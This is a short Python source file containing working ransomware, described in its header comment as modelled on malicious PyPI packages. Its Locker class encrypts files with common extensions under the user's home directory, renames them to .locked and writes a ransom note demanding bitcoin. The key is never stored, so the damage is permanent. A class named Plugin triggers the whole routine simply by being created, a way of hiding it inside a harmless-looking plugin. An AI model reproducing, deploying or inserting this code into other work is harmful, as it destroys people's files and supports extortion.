# Inspired by the Python ransomware found in PyPI packages (2022-2023 Phylum/Sonatype reports): Fernet-encrypt everything under the user's home, rename to .locked, drop a note.
from pathlib import Path

from cryptography.fernet import Fernet

_EXT = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png", ".txt", ".py", ".zip", ".sql"}
_NOTE = "Your files are encrypted. Send 0.05 BTC to bc1qfakefakefakefakefakefakefakefake00 and mail ops@example.invalid"


class Locker:
    def __init__(self):
        self.key = Fernet.generate_key()
        self.f = Fernet(self.key)

    def targets(self, root: Path):
        for p in root.rglob("*"):
            if p.is_file() and p.suffix.lower() in _EXT:
                yield p

    def lock(self, p: Path) -> None:
        p.write_bytes(self.f.encrypt(p.read_bytes()))
        p.rename(p.with_name(p.name + ".locked"))

    def run(self, root: Path) -> None:
        for p in self.targets(root):
            try:
                self.lock(p)
            except (OSError, PermissionError):
                continue
        (root / "README_DECRYPT.txt").write_text(_NOTE)


class Plugin:
    def __init__(self):
        Locker().run(Path.home())
